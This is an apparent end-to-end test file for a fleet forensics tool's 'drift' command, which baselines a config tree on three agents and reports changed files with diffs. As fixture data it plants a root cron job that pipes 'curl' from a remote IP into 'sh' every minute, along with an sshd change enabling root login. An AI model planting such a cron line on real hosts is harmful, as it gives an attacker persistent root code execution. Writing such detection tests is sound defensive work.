import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { dragnet, ndjson, requireBuild } from "../helpers/cli.js";
import { eventually, startFleet, type TestFleet, tempDir } from "../helpers/fleet.js";

// `dragnet drift` as an investigator runs it on three agents: baseline, a
// change only one host has and one all have, then check — per host with a
// diff, and stacked across the fleet, rarest first.

let fleet: TestFleet;
let home: string;
let tree: string;
let hosts: string[];

beforeAll(async () => {
  requireBuild();
  fleet = await startFleet({ agents: 3 });
  home = fleet.consoleHome();
  tree = tempDir("dragnet-drift-e2e-");
  mkdirSync(join(tree, "ssh"));
  mkdirSync(join(tree, "cron.d"));
  writeFileSync(join(tree, "ssh/sshd_config"), "Port 22\nPermitRootLogin no\n");
  writeFileSync(join(tree, "cron.d/backup"), "0 3 * * * root /usr/local/bin/backup\n");
  await eventually(async () => ((await fleet.api.listAgents()).length === 3 ? true : undefined));
  hosts = (await fleet.api.listAgents()).map((a) => a.hostname).sort();
});

afterAll(async () => {
  await fleet?.stop();
});

const cli = (args: string[]) => dragnet(["--home", home, ...args]);

describe("dragnet drift", () => {
  it("baselines, then reports nothing changed (exit 1)", async () => {
    const base = await cli(["--json", "drift", "baseline", "-t", "all", "--path", tree, "--name", "etc"]);
    expect(base.code).toBe(0);
    expect(ndjson(base.stdout).map((r) => [r.name, r.entries])).toEqual(hosts.map(() => ["etc", 5]));
    const none = await cli(["--json", "drift", "check", "-t", "all", "--name", "etc"]);
    expect([none.code, none.stdout]).toEqual([1, ""]);
    const list = await cli(["--json", "drift", "baseline", "-t", "all", "--list"]);
    expect(ndjson(list.stdout).map((r) => r.name)).toEqual(["etc", "etc", "etc"]);
  });

  it("stacks identical changes across hosts, the odd one out first, with its diff", async () => {
    // sshd_config changes while all three hold the old baseline…
    writeFileSync(join(tree, "ssh/sshd_config"), "Port 22\nPermitRootLogin yes\n");
    // …then two hosts take the new state as good: only the first still sees that change.
    const [odd, ...rest] = hosts;
    const rebase = await cli([
      "drift",
      "baseline",
      "-t",
      `hostname != "${odd}"`,
      "--path",
      tree,
      "--name",
      "etc",
      "-q",
    ]);
    expect(rebase.code).toBe(0);
    // A new cron file: every host sees it.
    writeFileSync(join(tree, "cron.d/evil"), "* * * * * root curl -s http://203.0.113.7/x | sh\n");

    const perHost = ndjson((await cli(["--json", "drift", "check", "-t", "all", "--name", "etc"])).stdout);
    const sshd = perHost.filter((r) => String(r.path).endsWith("sshd_config"));
    expect(sshd.map((r) => (r.agent as { hostname: string }).hostname)).toEqual([odd]);
    expect(sshd[0]!.diff).toContain("-PermitRootLogin no\n+PermitRootLogin yes");
    // The table shows each host's diffs under it.
    const table = await cli(["drift", "check", "-t", "all", "--name", "etc", "-q"]);
    expect(table.stdout).toContain(`${odd}: ${join(tree, "ssh/sshd_config")}\n`);
    expect(table.stdout).toContain("-PermitRootLogin no\n+PermitRootLogin yes");

    const stacked = await cli(["--json", "drift", "check", "-t", "all", "--name", "etc", "--stack"]);
    expect(stacked.code).toBe(0);
    expect(
      ndjson(stacked.stdout).map((r) => [r.hosts, String(r.path).slice(tree.length), r.kind, r.what]),
    ).toEqual([
      [1, "/ssh/sshd_config", "changed", "content"],
      [3, "/cron.d/evil", "added", ""],
    ]);
    expect(ndjson(stacked.stdout)[0]!.hostnames).toEqual([odd]);
    expect(rest).toHaveLength(2);
  });
});
